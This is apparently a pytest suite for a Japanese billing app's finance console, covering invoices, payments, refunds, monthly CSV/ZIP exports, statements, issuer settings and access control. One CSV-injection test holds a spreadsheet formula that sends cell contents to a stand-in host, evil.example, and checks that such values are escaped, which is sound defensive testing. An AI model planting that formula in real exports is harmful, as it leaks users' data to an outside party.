"""Finance's console through the real app: the documents list and its filters, a document's page
with its payments, void, correction and refund, the month's CSV and ZIP, purchases, usage
statements, and the administrator's issuer page."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from app.server import create_app
from billing import clock, invoicing, ledger, purchases
from billing.issuer import current_issuer
from billing.tables import IssuerProfile
from billing.verify import verify
from tests.factories import bearer, csrf, make_bundle, make_issuer, make_organization, make_user, sign_in

FINANCE_PATHS = ("/console/finance", "/admin/issuer")


def table_rows(html: str, table_id: str) -> list[list[str]]:
    """The text of each cell of each body row of the table with this id."""
    table = re.search(rf'<table[^>]*id="{table_id}"[^>]*>.*?</table>', html, re.S).group(0)
    body = re.search(r"<tbody>(.*?)</tbody>", table, re.S).group(1)
    return [
        [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", cell)).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)
    ]


def numbers_listed(html: str) -> list[str]:
    return re.findall(r'data-number="([^"]+)"', html)


def field_error(html: str, field: str) -> str | None:
    match = re.search(rf'id="{field}-error"[^>]*>([^<]+)<', html)
    return match.group(1) if match else None


def token_of(html: str) -> str:
    return re.search(r'name="token" value="([^"]+)"', html).group(1)


def days_ago(days: int):
    return clock.today() - timedelta(days=days)


@pytest.fixture
async def shop():
    """An issuer (30 days' terms), a 10-point bundle at ¥50,000 (10%), a 5-point one at ¥10,000
    (8%), two companies and finance staff."""
    await make_issuer()
    await make_bundle("P10", points=10, price_jpy=50_000, tax_rate=10)
    await make_bundle("R5", points=5, price_jpy=10_000, tax_rate=8)
    alpha = await make_organization("株式会社アルファ", code="ALPHA")
    beta = await make_organization("株式会社ベータ", code="BETA")
    finance = await make_user("finance", name="経理 花子")
    return alpha, beta, finance


async def buy(organization, quantity=1, *, method="invoice", bundle="P10", on=None):
    return await purchases.start_purchase(
        organization.id, bundle, quantity, method, recipient_name=organization.name, today=on or clock.today()
    )


async def invoice_of(purchase) -> invoicing.IssuedDocument:
    (invoice,) = [d for d in await invoicing.documents_of_purchase(purchase.id) if d.kind == "invoice"]
    return invoice


async def paid_by_card(organization, quantity=1):
    """A card purchase whose payment went through (its receipt issued, its points granted)."""
    purchase = await buy(organization, quantity, method="card")
    settled, _ = await purchases.settle_card_payment(purchase.id, paid_at=datetime.now(UTC),
                                                     payment_intent=f"pi_test_{purchase.id}")
    return settled


async def paid_by_transfer(organization, quantity=1):
    purchase = await buy(organization, quantity)
    invoice = await invoice_of(purchase)
    await purchases.record_payment(invoice.id, paid_on=clock.today(), amount_jpy=invoice.document.total_jpy)
    return purchase, await invoicing.get_document(invoice.id)


# ------------------------------------------------------------------------------------ the list


async def test_finance_sees_every_companys_documents_newest_first_and_filters_them(client, shop):
    alpha, beta, finance = shop
    last_month = clock.today().replace(day=1) - timedelta(days=1)
    overdue = await invoice_of(await buy(alpha, 2, on=days_ago(45)))  # due 15 days ago, unpaid
    of_last_month = await invoice_of(await buy(beta, on=last_month))
    receipt = [d for d in await invoicing.documents_of_purchase((await paid_by_card(beta)).id)][0]
    fresh = await invoice_of(await buy(alpha))
    await sign_in(client, finance)

    page = await client.get("/console/finance/documents")
    assert page.status_code == 200
    assert numbers_listed(page.text) == [fresh.number, receipt.number, of_last_month.number, overdue.number]
    row = dict(zip(numbers_listed(page.text), table_rows(page.text, "document-table"), strict=True))[overdue.number]
    assert row[:5] == [overdue.number, "請求書", "ALPHA 株式会社アルファ", "株式会社アルファ",
                       overdue.document.issued_on.strftime("%Y/%m/%d")]
    assert row[6:9] == ["¥110,000", "¥0", "¥110,000"]

    async def listed(**params) -> list[str]:
        response = await client.get("/console/finance/documents", params=params)
        assert response.status_code == 200, response.text
        return numbers_listed(response.text)

    assert await listed(kind="receipt") == [receipt.number]
    assert await listed(kind="invoice", organization=str(alpha.id)) == [fresh.number, overdue.number]
    assert await listed(organization=str(beta.id)) == [receipt.number, of_last_month.number]
    assert await listed(month=f"{last_month:%Y-%m}") == [of_last_month.number]
    assert await listed(overdue="1") == [overdue.number]
    await purchases.void_invoice(fresh.id, "重複")
    assert await listed(status="void") == [fresh.number]
    assert await listed(status="issued", kind="invoice") == [of_last_month.number, overdue.number]

    # Overdue rows stand out and show what is open.
    overdue_page = (await client.get("/console/finance/documents", params={"overdue": "1"})).text
    assert re.search(rf'data-number="{overdue.number}" class="overdue"', overdue_page)
    assert "期限超過" in overdue_page


async def test_the_month_downloads_are_offered_once_a_month_is_chosen(client, shop):
    _alpha, _beta, finance = shop
    await sign_in(client, finance)
    unfiltered = (await client.get("/console/finance/documents")).text
    assert 'id="month-zip"' not in unfiltered and "月を選ぶと" in unfiltered
    month = f"{clock.today():%Y-%m}"
    filtered = (await client.get("/console/finance/documents", params={"month": month})).text
    assert f'href="/console/finance/documents.zip?month={month}"' in filtered
    assert f'href="/console/finance/documents.csv?month={month}"' in filtered
    for path in ("/console/finance/documents.csv", "/console/finance/documents.zip"):
        refused = await client.get(path)
        assert refused.status_code == 422 and "月は YYYY-MM の形で指定してください" in refused.text


async def test_an_htmx_request_gets_only_the_rows_and_the_list_pages_on(client, shop):
    alpha, _beta, finance = shop
    invoices = [await invoice_of(await buy(alpha)) for _ in range(invoicing.PAGE_SIZE + 1)]
    await sign_in(client, finance)

    first = await client.get("/console/finance/documents", params={"kind": "invoice"}, headers={"HX-Request": "true"})
    assert first.status_code == 200 and "<html" not in first.text and 'id="document-filters"' not in first.text
    assert len(numbers_listed(first.text)) == invoicing.PAGE_SIZE
    next_url = re.search(r'id="next-page" hx-get="([^"]+)"', first.text).group(1).replace("&amp;", "&")
    assert "kind=invoice" in next_url
    second = await client.get(next_url)
    assert second.status_code == 200 and "<html" in second.text
    assert numbers_listed(second.text) == [invoices[0].number]


async def test_the_finance_home_counts_the_overdue_invoices_and_links_to_them(client, shop):
    alpha, beta, finance = shop
    await buy(alpha, 2, on=days_ago(40))
    await buy(beta, on=days_ago(31))
    await buy(beta)  # not due yet
    await sign_in(client, finance)
    home = await client.get("/console/finance")
    assert home.status_code == 200
    assert re.search(r'id="overdue-link"[^>]*>\s*2 件の請求書が支払期日を過ぎています（未入金 ¥165,000）', home.text)
    assert 'href="/console/finance/documents?kind=invoice&amp;overdue=1"' in home.text
    assert 'id="nav-finance"' in home.text


async def test_bad_filters_are_answered_with_a_message_not_a_failure(client, shop):
    _alpha, _beta, finance = shop
    await sign_in(client, finance)
    for params, message in (({"kind": "bill"}, "書類の種類を一覧から選んでください。"),
                            ({"status": "lost"}, "状態を一覧から選んでください。"),
                            ({"month": "2026-13"}, "月は YYYY-MM の形で指定してください"),
                            ({"organization": "²"}, "整数を入力してください。"),
                            ({"cursor": "abc"}, "ページの指定が正しくありません。")):
        response = await client.get("/console/finance/documents", params=params)
        assert response.status_code == 422 and message in response.text, params
    assert (await client.get("/console/finance/documents/99999999999")).status_code == 404
    assert (await client.get("/console/finance/documents/12.doc")).status_code == 404


# ------------------------------------------------------------------------------------ payments


async def test_a_payment_recorded_from_the_page_marks_the_invoice_paid_and_grants_the_points(client, shop):
    alpha, _beta, finance = shop
    purchase = await buy(alpha, 2)
    invoice = await invoice_of(purchase)
    await sign_in(client, finance)

    page = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert 'name="amount_jpy" value="110000"' in page  # prefilled with what is open
    assert table_rows(page, "document-taxes") == [["10% 対象", "¥100,000", "¥10,000"]]
    response = await client.post(f"/console/finance/documents/{invoice.id}/payments", data={
        "paid_on": clock.today().isoformat(), "amount_jpy": "110,000", "note": "みずほ銀行より振込",
        "token": token_of(page), **csrf(client)})
    assert response.status_code == 303 and response.headers["location"] == f"/console/finance/documents/{invoice.id}"

    after = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert f"請求書 {invoice.number} は全額入金済みです。ポイントを付与しました。" in after
    assert re.search(r'id="document-status">入金済</span>', after)
    assert table_rows(after, "payment-table") == [
        [clock.today().strftime("%Y/%m/%d"), "¥110,000", "みずほ銀行より振込", "経理 花子"]]
    assert 'id="record-payment"' not in after and 'id="void-invoice"' not in after
    assert (await ledger.balance(alpha.id)).available == 20
    assert (await purchases.get_purchase(purchase.id)).status == "paid"
    assert (await verify()).clean


async def test_a_payment_submitted_twice_from_the_same_form_is_recorded_once(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha, 2))
    await sign_in(client, finance)
    token = token_of((await client.get(f"/console/finance/documents/{invoice.id}")).text)
    form = {"paid_on": clock.today().isoformat(), "amount_jpy": "60000", "token": token, **csrf(client)}
    for _ in range(2):
        response = await client.post(f"/console/finance/documents/{invoice.id}/payments", data=form)
        assert response.status_code == 303
    assert (await invoicing.get_document(invoice.id)).paid_jpy == 60_000
    assert len(await purchases.payments_of(invoice.id)) == 1


async def test_a_partial_payment_leaves_the_rest_open_and_grants_nothing_yet(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha, 2))
    await sign_in(client, finance)
    page = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    await client.post(f"/console/finance/documents/{invoice.id}/payments", data={
        "paid_on": clock.today().isoformat(), "amount_jpy": "100000", "token": token_of(page), **csrf(client)})
    after = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert f"入金を記録しました。請求書 {invoice.number} の未入金額は ¥10,000 です。" in after
    assert re.search(r'id="open-total">¥10,000<', after)
    assert 'name="amount_jpy" value="10000"' in after and 'id="document-status">発行済' in after
    assert (await ledger.balance(alpha.id)).available == 0


async def test_an_overpayment_is_refused_next_to_the_amount_and_what_was_typed_is_kept(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha, 2))
    await sign_in(client, finance)
    response = await client.post(f"/console/finance/documents/{invoice.id}/payments", data={
        "paid_on": clock.today().isoformat(), "amount_jpy": "120000", "note": "多めの振込", "token": "t-1",
        **csrf(client)})
    assert response.status_code == 422
    assert field_error(response.text, "amount_jpy") == f"請求書 {invoice.number} の未入金額は ¥110,000 です。"
    assert 'value="120000"' in response.text and "多めの振込" in response.text
    future = await client.post(f"/console/finance/documents/{invoice.id}/payments", data={
        "paid_on": (clock.today() + timedelta(days=3)).isoformat(), "amount_jpy": "1000", **csrf(client)})
    assert future.status_code == 422 and field_error(future.text, "paid_on")
    assert (await invoicing.get_document(invoice.id)).paid_jpy == 0


# ------------------------------------------------------------------------------------ void, correction


async def test_voiding_needs_a_reason_and_only_an_unpaid_invoice_can_be_voided(client, shop):
    alpha, beta, finance = shop
    unpaid = await invoice_of(await buy(alpha))
    await sign_in(client, finance)
    no_reason = await client.post(f"/console/finance/documents/{unpaid.id}/void", data={"reason": " ", **csrf(client)})
    assert no_reason.status_code == 422 and field_error(no_reason.text, "reason") == "この項目は必須です。"
    voided = await client.post(f"/console/finance/documents/{unpaid.id}/void",
                               data={"reason": "お客様のご依頼で取消", **csrf(client)})
    assert voided.status_code == 303
    page = (await client.get(f"/console/finance/documents/{unpaid.id}")).text
    assert 'id="document-status">無効</span>' in page and "お客様のご依頼で取消" in page
    assert 'id="void-invoice"' not in page and 'id="record-payment"' not in page

    _purchase, paid = await paid_by_transfer(beta)
    page = (await client.get(f"/console/finance/documents/{paid.id}")).text
    assert 'id="void-invoice"' not in page
    refused = await client.post(f"/console/finance/documents/{paid.id}/void", data={"reason": "誤り", **csrf(client)})
    assert refused.status_code == 409
    assert re.search(rf'id="action-error">請求書 {paid.number} は入金済みです。', refused.text)
    assert (await invoicing.get_document(paid.id)).status == "paid"


async def test_a_corrected_invoice_gets_a_new_number_and_links_back_to_the_original(client, shop):
    alpha, _beta, finance = shop
    original = await invoice_of(await buy(alpha))
    await sign_in(client, finance)
    due = clock.today() + timedelta(days=60)
    past = await client.post(f"/console/finance/documents/{original.id}/correct", data={
        "recipient_name": "株式会社アルファ 経理部", "due_on": days_ago(1).isoformat(), **csrf(client)})
    assert past.status_code == 422 and field_error(past.text, "due_on") == "支払期日を過去の日付にすることはできません。"
    assert 'value="株式会社アルファ 経理部"' in past.text

    response = await client.post(f"/console/finance/documents/{original.id}/correct", data={
        "recipient_name": "株式会社アルファ 経理部", "due_on": due.isoformat(), "note": "宛名の訂正", **csrf(client)})
    assert response.status_code == 303
    corrected_id = int(response.headers["location"].rsplit("/", 1)[1])
    corrected = await invoicing.get_document(corrected_id)
    assert corrected.number != original.number and corrected.original_id == original.id
    page = (await client.get(f"/console/finance/documents/{corrected_id}")).text
    assert f"訂正した請求書 {corrected.number} を発行しました（{original.number} に代わるものです）。" in page
    assert f'<a href="/console/finance/documents/{original.id}" id="original-link">{original.number}</a>' in page
    assert re.search(rf'data-document-id="{original.id}">訂正元の請求書: ', page)
    back = (await client.get(f"/console/finance/documents/{original.id}")).text
    assert 'id="document-status">訂正請求書に差替済み</span>' in back
    assert re.search(rf'data-document-id="{corrected_id}">訂正後の請求書: ', back)
    assert 'id="correct-invoice"' not in back and 'id="record-payment"' not in back


# ------------------------------------------------------------------------------------ refunds


async def test_a_refund_from_the_page_takes_back_only_the_unspent_points_and_shows_the_credit_note(client, shop):
    alpha, _beta, finance = shop
    purchase, invoice = await paid_by_transfer(alpha, 2)  # 20 points at ¥5,000 each
    hold = await ledger.hold(alpha.id, 6, ticket_id=1, key="spend-6")
    await ledger.capture(hold, "spend-6-captured")
    await sign_in(client, finance)

    page = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert re.search(r'id="refund-preview">このご購入の未使用ポイント 14 ポイントが戻り、¥77,000（税込）の返還請求書が発行されます。', page)
    assert 'id="refund-by-card"' not in page
    no_reason = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                  data={"reason": "", **csrf(client)})
    assert no_reason.status_code == 422 and field_error(no_reason.text, "reason") == "この項目は必須です。"
    assert (await ledger.balance(alpha.id)).available == 14

    response = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                 data={"reason": "契約終了", **csrf(client)})
    assert response.status_code == 303
    note = await invoicing.get_document(int(response.headers["location"].rsplit("/", 1)[1]))
    assert note.kind == "credit_note" and note.original_id == invoice.id
    shown = (await client.get(response.headers["location"])).text
    assert f"未使用の 14 ポイントを戻し、返還請求書 {note.number} を発行しました。" in shown
    assert table_rows(shown, "document-lines")[0][1:] == ["14", "¥5,000", "¥70,000", "10%"]
    assert re.search(r'id="total"><strong>¥77,000<', shown)
    assert (await ledger.balance(alpha.id)).available == 0
    invoice_page = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert 'id="refund-purchase"' not in invoice_page
    assert re.search(rf'data-document-id="{note.id}">返還請求書: ', invoice_page)
    assert (await verify()).clean


async def test_a_refund_takes_back_the_available_points_and_leaves_the_held_ones_with_their_request(client, shop):
    alpha, _beta, finance = shop
    purchase, invoice = await paid_by_transfer(alpha)  # 10 points
    hold = await ledger.hold(alpha.id, 4, ticket_id=1, key="held-4")
    await sign_in(client, finance)
    response = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                 data={"reason": "解約", **csrf(client)})
    assert response.status_code == 303
    assert (await purchases.get_purchase(purchase.id)).refunded_points == 6
    # Released later, the 4 held points are the customer's again: paid for and not refunded.
    await ledger.release(hold, "released-4")
    assert (await ledger.balance(alpha.id)).available == 4
    assert (await verify()).clean


async def test_a_refund_is_refused_while_every_unused_point_is_held_and_works_once_they_are_released(client, shop):
    alpha, _beta, finance = shop
    purchase, invoice = await paid_by_transfer(alpha)  # 10 points
    spent = await ledger.hold(alpha.id, 7, ticket_id=1, key="spent-7")
    await ledger.capture(spent, "captured-7")
    held = await ledger.hold(alpha.id, 3, ticket_id=2, key="held-3")
    await sign_in(client, finance)
    refused = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                data={"reason": "解約", **csrf(client)})
    assert refused.status_code == 409
    assert "未使用ポイント 3 ポイントはすべて対応中のお問い合わせに確保されています" in refused.text
    assert (await purchases.get_purchase(purchase.id)).refunded_at is None
    assert not [d for d in await invoicing.documents_of_purchase(purchase.id) if d.kind == "credit_note"]

    await ledger.release(held, "released-3")
    response = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                 data={"reason": "解約", **csrf(client)})
    assert response.status_code == 303
    assert (await purchases.get_purchase(purchase.id)).refunded_points == 3
    assert (await ledger.balance(alpha.id)).available == 0
    assert (await verify()).clean


async def test_a_refund_of_a_purchase_whose_points_are_all_used_is_refused_with_the_reason(client, shop):
    alpha, _beta, finance = shop
    purchase, invoice = await paid_by_transfer(alpha)  # 10 points
    await ledger.capture(await ledger.hold(alpha.id, 10, ticket_id=1, key="all"), "used-all")
    await sign_in(client, finance)
    refused = await client.post(f"/console/finance/documents/{invoice.id}/refund",
                                data={"reason": "解約", **csrf(client)})
    assert refused.status_code == 409
    assert "すべて利用済みまたは有効期限切れのため、返金できるものはありません" in refused.text
    assert (await purchases.get_purchase(purchase.id)).refunded_at is None


async def test_a_card_purchase_is_refunded_through_stripe(client, shop):
    alpha, _beta, finance = shop
    purchase = await paid_by_card(alpha)
    (receipt,) = await invoicing.documents_of_purchase(purchase.id)
    await sign_in(client, finance)
    page = (await client.get(f"/console/finance/documents/{receipt.id}")).text
    assert receipt.kind == "receipt" and "カードで支払われたため、代金は Stripe を通じてカードに返金されます。" in page
    response = await client.post(f"/console/finance/documents/{receipt.id}/refund",
                                 data={"reason": "解約", **csrf(client)})
    assert response.status_code == 303
    shown = (await client.get(response.headers["location"])).text
    assert "¥55,000 を Stripe を通じてカードに返金しました。" in shown
    refunded = await purchases.get_purchase(purchase.id)
    assert refunded.refunded_points == 10 and refunded.stripe_refund_id
    assert (await ledger.balance(alpha.id)).available == 0


async def test_an_unpaid_invoice_offers_no_refund(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha))
    await sign_in(client, finance)
    page = (await client.get(f"/console/finance/documents/{invoice.id}")).text
    assert 'id="refund-purchase"' not in page
    refused = await client.post(f"/console/finance/documents/{invoice.id}/refund", data={"reason": "x", **csrf(client)})
    assert refused.status_code == 409 and 'id="action-error"' in refused.text


# ------------------------------------------------------------------------------------ the month


async def test_the_accountants_csv_has_the_columns_and_the_figures_per_rate_of_the_month(client, shop):
    alpha, beta, finance = shop
    last_month = clock.today().replace(day=1) - timedelta(days=1)
    await buy(alpha, on=last_month)  # not this month
    standard = await invoice_of(await buy(alpha, 2))
    reduced = await invoice_of(await buy(beta, 3, bundle="R5"))
    await sign_in(client, finance)
    month = f"{clock.today():%Y-%m}"

    response = await client.get("/console/finance/documents.csv", params={"month": month})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == f'attachment; filename="documents-{month}.csv"'
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "種別", "番号", "状態", "発行日", "取引日", "支払期日", "得意先コード", "得意先名", "宛名",
        "税抜金額(10%)", "消費税(10%)", "税抜金額(8%)", "消費税(8%)", "税抜合計", "消費税合計", "合計",
        "入金額", "入金日", "訂正・返還元", "無効理由",
    ]
    by_number = {row[1]: row for row in rows[1:]}
    assert set(by_number) == {standard.number, reduced.number}
    assert by_number[standard.number][:3] == ["請求書", standard.number, "発行済"]
    assert by_number[standard.number][6:17] == ["ALPHA", "株式会社アルファ", "株式会社アルファ", "100000", "10000", "",
                                                "", "100000", "10000", "110000", "0"]
    assert by_number[reduced.number][6:16] == ["BETA", "株式会社ベータ", "株式会社ベータ", "", "", "30000", "2400",
                                               "30000", "2400", "32400"]


async def test_the_accountants_csv_holds_no_live_formula_from_names_or_reasons(client, shop):
    _alpha, _beta, finance = shop
    link = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")'
    evil = await make_organization(link, code="EVIL")
    invoice = await invoice_of(await purchases.start_purchase(evil.id, "P10", 1, "invoice",
                                                              recipient_name="+81-3-1234-5678"))
    voided = await invoice_of(await purchases.start_purchase(evil.id, "P10", 1, "invoice",
                                                             recipient_name="@SUM(1+1)"))
    await purchases.void_invoice(voided.id, "-2+3 重複")
    await sign_in(client, finance)
    response = await client.get("/console/finance/documents.csv", params={"month": f"{clock.today():%Y-%m}"})
    rows = {row[1]: row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert rows[invoice.number][7:9] == ["'" + link, "'+81-3-1234-5678"]
    assert rows[voided.number][7:9] == ["'" + link, "'@SUM(1+1)"]
    assert rows[voided.number][19] == "'-2+3 重複"
    assert rows[invoice.number][13:16] == ["50000", "5000", "55000"]  # numbers stay numbers


async def test_the_month_zip_holds_each_documents_pdf_named_by_its_number_and_the_csv(client, shop):
    alpha, beta, finance = shop
    invoice = await invoice_of(await buy(alpha))
    receipt = (await invoicing.documents_of_purchase((await paid_by_card(beta)).id))[0]
    await sign_in(client, finance)
    month = f"{clock.today():%Y-%m}"
    response = await client.get("/console/finance/documents.zip", params={"month": month})
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == f'attachment; filename="documents-{month}.zip"'
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert sorted(archive.namelist()) == sorted([
        f"{month}/{invoice.number}.pdf", f"{month}/{receipt.number}.pdf", f"{month}/documents-{month}.csv"])
    for number, document in ((invoice.number, invoice), (receipt.number, receipt)):
        pdf = archive.read(f"{month}/{number}.pdf")
        assert pdf.startswith(b"%PDF")
        _issued, stored = await invoicing.pdf_of(document.id)
        assert pdf == stored
    assert archive.read(f"{month}/documents-{month}.csv").startswith("\ufeff".encode())


async def test_a_documents_pdf_downloads_and_its_html_view_shows_in_the_browser(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha))
    await sign_in(client, finance)
    pdf = await client.get(f"/console/finance/documents/{invoice.id}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert pdf.headers["content-disposition"] == f'attachment; filename="{invoice.number}.pdf"'
    assert (await client.get(f"/console/finance/documents/{invoice.id}.pdf")).content == pdf.content
    view = await client.get(f"/console/finance/documents/{invoice.id}/view")
    assert view.status_code == 200 and view.headers["content-type"].startswith("text/html")
    assert invoice.number in view.text and "株式会社アルファ" in view.text
    assert 'class="stamp"' not in view.text  # just issued: nothing to stamp
    await purchases.void_invoice(invoice.id, "重複")
    voided = (await client.get(f"/console/finance/documents/{invoice.id}/view")).text
    assert re.search(r'class="stamp"[^>]*>無効', voided)


# ------------------------------------------------------------------------------------ purchases


async def test_the_purchases_list_filters_by_what_became_of_them_and_links_their_documents(client, shop):
    alpha, beta, finance = shop
    awaiting = await buy(alpha)
    awaiting_invoice = await invoice_of(awaiting)
    pending = await buy(beta, method="card")
    paid, paid_invoice = await paid_by_transfer(beta)
    refunded = await paid_by_card(alpha)
    await purchases.refund_purchase(refunded.id, "解約")
    await sign_in(client, finance)

    async def listed(status: str = "") -> list[int]:
        response = await client.get("/console/finance/purchases", params={"status": status} if status else {})
        assert response.status_code == 200
        return [int(i) for i in re.findall(r'data-purchase-id="(\d+)"', response.text)]

    assert await listed() == [refunded.id, paid.id, pending.id, awaiting.id]
    assert await listed("pending") == [pending.id]
    assert await listed("awaiting_payment") == [awaiting.id]
    assert await listed("paid") == [paid.id]
    assert await listed("refunded") == [refunded.id]
    page = (await client.get("/console/finance/purchases", params={"status": "awaiting_payment"})).text
    link = f'<a href="/console/finance/documents/{awaiting_invoice.id}" class="document-link">{awaiting_invoice.number}</a>'
    assert link in page
    assert "お振込み待ち" in page
    assert f'/console/finance/documents/{paid_invoice.id}"' in (await client.get("/console/finance/purchases")).text
    bad = await client.get("/console/finance/purchases", params={"status": "lost"})
    assert bad.status_code == 422 and "状態を一覧から選んでください。" in bad.text


# ------------------------------------------------------------------------------------ statements


async def test_the_statements_page_lists_each_organisation_with_its_statement_of_the_month(client, shop):
    alpha, beta, finance = shop
    await sign_in(client, finance)
    last_month = f"{clock.today().replace(day=1) - timedelta(days=1):%Y-%m}"
    this_month = f"{clock.today():%Y-%m}"

    ended = (await client.get("/console/finance/statements")).text  # the month before this one at first
    assert [row[:2] for row in table_rows(ended, "statement-table")] == [["BETA", "株式会社ベータ"], ["ALPHA", "株式会社アルファ"]]
    assert f'href="/console/finance/statements/{alpha.id}/{last_month}.pdf"' in ended
    assert f'href="/console/finance/statements/{alpha.id}/{last_month}.html"' in ended

    under_way = (await client.get("/console/finance/statements", params={"month": this_month})).text
    assert ".pdf" not in under_way and f"{this_month} はまだ終わっていません" in under_way
    assert f'href="/console/finance/statements/{beta.id}/{this_month}.html"' in under_way
    too_early = await client.get(f"/console/finance/statements/{beta.id}/{this_month}.pdf")
    assert too_early.status_code == 422 and "月が終わってから発行されます" in too_early.text
    assert (await client.get(f"/console/finance/statements/{beta.id}/{this_month}.doc")).status_code == 404
    assert (await client.get("/console/finance/statements", params={"month": "2026/13"})).status_code == 422


async def test_a_statement_opens_as_html_and_downloads_as_pdf(client, shop):
    alpha, _beta, finance = shop
    await ledger.grant(alpha.id, 7, "初回", None, key="g-statement")
    await sign_in(client, finance)
    last_month = f"{clock.today().replace(day=1) - timedelta(days=1):%Y-%m}"
    view = await client.get(f"/console/finance/statements/{alpha.id}/{clock.today():%Y-%m}.html")
    assert view.status_code == 200 and view.headers["content-type"].startswith("text/html")
    assert "株式会社アルファ" in view.text
    pdf = await client.get(f"/console/finance/statements/{alpha.id}/{last_month}.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert f"statement-{last_month}-{alpha.id}.pdf" in pdf.headers["content-disposition"]


# ------------------------------------------------------------------------------------ the issuer


async def test_the_admin_home_says_when_no_issuer_is_set_and_links_to_its_page(client):
    await sign_in(client, await make_user("admin"))
    home = (await client.get("/admin")).text
    assert 'id="issuer-missing"' in home and 'href="/admin/issuer"' in home
    await make_issuer()
    assert 'id="issuer-missing"' not in (await client.get("/admin")).text


async def test_the_issuer_page_checks_the_registration_number_and_saves_a_new_version(client):
    admin = await make_user("admin", name="管理 太郎")
    await sign_in(client, admin)
    page = await client.get("/admin/issuer")
    assert page.status_code == 200 and 'id="issuer-missing"' in page.text
    form = {"name": "株式会社キップ・サポート", "registration_number": "T8123456789012", "address": "東京都千代田区",
            "phone": "03-1234-5678", "email": "Billing@Kippu.example", "bank_account": "みずほ銀行 丸の内支店\n普通 1234567",
            "payment_terms_days": "45", "tax_rounding": "half_up", **csrf(client)}

    wrong = await client.post("/admin/issuer", data=form)
    assert wrong.status_code == 422
    assert field_error(wrong.text, "registration_number") == (
        "登録番号 T8123456789012 のチェックデジットが正しくありません。登録通知書の番号をご確認ください。")
    assert 'value="株式会社キップ・サポート"' in wrong.text and "普通 1234567" in wrong.text
    short = await client.post("/admin/issuer", data={**form, "registration_number": "T123"})
    assert field_error(short.text, "registration_number") == "登録番号は「T」と 13 桁の数字です（例: T7123456789012）。"
    terms = await client.post("/admin/issuer", data={**form, "registration_number": "T7123456789012",
                                                     "payment_terms_days": "0"})
    assert terms.status_code == 422 and field_error(terms.text, "payment_terms_days") == "支払期限は 1〜365 日で指定してください。"
    assert await current_issuer() is None

    saved = await client.post("/admin/issuer", data={**form, "registration_number": "Ｔ７１２３－４５６７－８９０１２"})
    assert saved.status_code == 303
    issuer = await current_issuer()
    assert (issuer.registration_number, issuer.payment_terms_days, issuer.tax_rounding, issuer.email) == (
        "T7123456789012", 45, "half_up", "billing@kippu.example")
    shown = (await client.get("/admin/issuer")).text
    assert "発行者情報を保存しました" in shown and 'value="T7123456789012"' in shown
    assert re.search(r'id="last-change">[^<]*管理 太郎', shown)
    assert '<option value="half_up" selected>' in shown

    await client.post("/admin/issuer", data={**form, "registration_number": "T7123456789012", "name": "株式会社キップ"})
    assert await IssuerProfile.count() == 2  # each save is a new version
    assert (await current_issuer()).name == "株式会社キップ"


# ------------------------------------------------------------------------------------ who may


def finance_routes() -> list[tuple[str, str]]:
    found = set()
    for route in create_app().routes:
        if route.path.startswith(FINANCE_PATHS):
            for handler in route.route_handlers:
                found |= {(m, route.path) for m in handler.http_methods if m not in ("HEAD", "OPTIONS")}
    return sorted(found)


def concrete(path: str, document_id: int, organization_id: int) -> str:
    return (path.replace("{ref:str}", str(document_id)).replace("{document_id:int}", str(document_id))
            .replace("{organization_id:int}", str(organization_id)).replace("{file:str}", "2026-01.pdf"))


@pytest.mark.parametrize("role", ["agent", "customer_admin", "customer_member"])
async def test_agents_and_customers_get_403_on_every_finance_and_issuer_page(client, shop, role):
    alpha, _beta, _finance = shop
    invoice = await invoice_of(await buy(alpha))
    await sign_in(client, await make_user(role, organization=alpha if role.startswith("customer") else None))
    routes = finance_routes()
    assert len(routes) >= 14
    for method, path in routes:
        url = concrete(path, invoice.id, alpha.id)
        if method == "GET":
            response = await client.get(url, params={"month": "2026-01"})
        else:
            response = await client.post(url, data={"reason": "x", "amount_jpy": "1", "name": "乗っ取り",
                                                    "registration_number": "T7123456789012", **csrf(client)})
        assert response.status_code == 403, f"{role}: {method} {url} answered {response.status_code}"
    assert (await invoicing.get_document(invoice.id)).status == "issued"
    assert await IssuerProfile.count() == 1


async def test_finance_may_not_change_the_issuer(client, shop):
    _alpha, _beta, finance = shop
    await sign_in(client, finance)
    assert (await client.get("/admin/issuer")).status_code == 403
    assert 'href="/admin"' not in (await client.get("/console/finance")).text


async def test_finance_records_a_payment_through_the_api_with_the_day_as_text(client, shop):
    alpha, _beta, finance = shop
    invoice = await invoice_of(await buy(alpha))
    response = await client.post(f"/api/v1/invoices/{invoice.id}/payments", headers=await bearer(finance),
                                 json={"paid_on": clock.today().isoformat(), "amount_jpy": 55_000})
    assert response.status_code == 201, response.text
    assert (response.json()["status"], response.json()["paid_jpy"]) == ("paid", 55_000)
